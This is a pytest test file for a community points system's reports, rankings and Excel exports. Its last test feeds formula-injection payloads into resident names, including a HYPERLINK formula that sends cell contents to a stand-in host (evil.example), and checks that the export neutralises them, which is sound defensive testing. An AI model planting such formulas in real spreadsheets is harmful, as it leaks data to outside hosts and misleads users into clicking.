import io

import pytest
from openpyxl import load_workbook

from linli.people.tests.factories import HouseholdFactory, PartyMemberFactory, ResidentFactory
from linli.points import selectors, services


def _grant(world, shop, resident, rule, key, quantity="1"):
    return services.award_grant(actor=world.user("community_secretary"), key=key, rule=rule, resident=resident,
                                quantity=quantity, source_type="volunteer")


@pytest.fixture
def scored(world, shop):
    """resident 40 (2 soaps redeemed later), neighbour 60 then a litter deduction, a far resident elsewhere."""
    spouse = ResidentFactory(household=world.household1, name="张伟", relation="spouse")
    _grant(world, shop, world.resident, shop.volunteer, "a", "4")
    _grant(world, shop, spouse, shop.volunteer, "b", "1")
    _grant(world, shop, world.neighbour, shop.volunteer, "c", "6")
    _grant(world, shop, world.neighbour, shop.litter, "d")
    services.redemption_create(actor=world.user("resident"), goods=shop.soap, quantity=2, key="r")
    return spouse


def test_statement_explains_the_balance_entry_by_entry(world, shop, scored):
    account, _ = services.accounts_of(world.resident)
    entries = list(selectors.statement(account))
    assert [e.amount for e in reversed(entries)] == [40, -20]
    assert entries[0].balance_after == account.balance == 20
    assert "积分超市兑换：香皂×2" in entries[0].transfer.reason


def test_household_totals_add_the_household_account_and_its_members(world, shop, scored):
    services.award_grant(actor=world.user("community_secretary"), key="hh", rule=shop.patrol,
                         household=world.household1, source_type="patrol")
    rows = {h.pk: h for h in selectors.household_totals(actor=world.user("community_secretary"))}
    h = rows[world.household1.pk]
    assert (h.members_points, h.household_points, h.total_points) == (30, 5, 35)


def test_rankings_rank_within_each_compound_by_points_earned_in_the_period(world, shop, scored):
    ranked = list(selectors.rankings(actor=world.user("community_secretary"), filters={"compound": world.compound1.pk}))
    # the neighbour earned 60 and lost 10: net 50 in the period, ahead of the resident's 40
    assert [(r.name, r.period_points, r.rank) for r in ranked] == [("李建国", 50, 1), ("张秀英", 40, 2), ("张伟", 10, 3)]
    # spending does not lower a rank: the resident's balance is 20 after redeeming
    assert ranked[1].balance == 20


def test_civilised_candidates_leave_out_households_with_law_deductions(world, shop, scored):
    other = HouseholdFactory(dwelling=world.household1.dwelling)
    _grant(world, shop, ResidentFactory(household=other), shop.volunteer, "e", "1")
    candidates = selectors.civilised_candidates(actor=world.user("community_secretary"), filters={})
    assert [h.pk for h in candidates] == [world.household1.pk, other.pk]
    assert candidates[0].period_points == 50
    assert world.neighbour.household_id not in [h.pk for h in candidates]


def test_a_corrected_deduction_no_longer_blocks_a_household(world, shop, scored):
    from linli.points.models import Award

    deduction = Award.objects.get(key="d")
    services.award_correct(actor=world.user("community_secretary"), award=deduction, reason="认错人了")
    candidates = selectors.civilised_candidates(actor=world.user("community_secretary"), filters={})
    assert world.neighbour.household_id in [h.pk for h in candidates]


def test_party_members_points_by_category(world, shop, scored):
    PartyMemberFactory(resident=world.far_resident)
    member = PartyMemberFactory(resident=ResidentFactory(household=world.household1, name="王党员"))
    _grant(world, shop, member.resident, shop.party_study, "s1")
    _grant(world, shop, member.resident, shop.party_study, "s2")
    rows = list(selectors.party_member_points(actor=world.user("community_secretary")))
    assert [(m.resident.name, m.study_points, m.public_points, m.law_points, m.total_points) for m in rows] == [
        ("王党员", 16, 0, 0, 16)]


def test_reports_only_cover_the_actors_area(world, shop, scored):
    outsider_sees = {h.dwelling.entrance.building.compound.community_id
                     for h in selectors.household_totals(actor=world.user("outsider"))}
    assert outsider_sees == {world.community3.pk}
    assert world.resident.pk not in [r.pk for r in selectors.rankings(actor=world.user("property_staff"))]


@pytest.mark.parametrize(("url", "header", "first_row"), [
    ("/points/reports/households/?format=xlsx", "家庭积分合计", None),
    ("/points/reports/rankings/?format=xlsx", "名次", ["康宁小区", 1, "李建国", 50, 50]),
    ("/points/reports/civilised/?format=xlsx", "期间积分", None),
    ("/points/reports/party/?format=xlsx", "遵纪守法类", ["张伟", "康宁小区", 0, 10, 0, 10]),
    ("/points/staff/residents/{resident}/?format=xlsx", "事由", None),
])
def test_excel_exports_read_back(world, shop, scored, client_for, url, header, first_row):
    # given the spouse is a Party member (awarded before joining, so under the residents' rules)
    PartyMemberFactory(resident=scored)
    # when
    response = client_for("community_secretary").get(url.format(resident=world.resident.pk))
    # then the file opens and holds the report
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(io.BytesIO(response.content), read_only=True)
    rows = list(book.active.iter_rows(values_only=True))
    assert header in rows[0]
    assert len(rows) >= 2
    if first_row:
        assert list(rows[1]) == first_row
    if "residents" in url:
        assert [r[4] for r in rows[1:]] == [40, -20] and rows[-1][5] == 20


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?x="&A1,"点我领奖")', "+1+2", "-3+4", "@SUM(A1)",
                                  "\t=1+1", "\r=1+1"])
def test_a_name_that_looks_like_a_formula_is_exported_as_text(world, shop, scored, client_for, name):
    # given a resident whose name starts like a formula, ranked in the period
    world.neighbour.name = name
    world.neighbour.save()
    # when the rankings are exported
    response = client_for("community_secretary").get("/points/reports/rankings/?format=xlsx")
    # then the cell reads back as that text, a string and not a formula
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [row[2] for row in sheet.iter_rows(min_row=2)]
    # (XML keeps a leading carriage return as a line feed; the text is otherwise as typed)
    cell = next(c for c in cells if c.value and c.value.replace("\n", "\r") == name.replace("\n", "\r"))
    assert cell.data_type == "s" and cell.quotePrefix
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
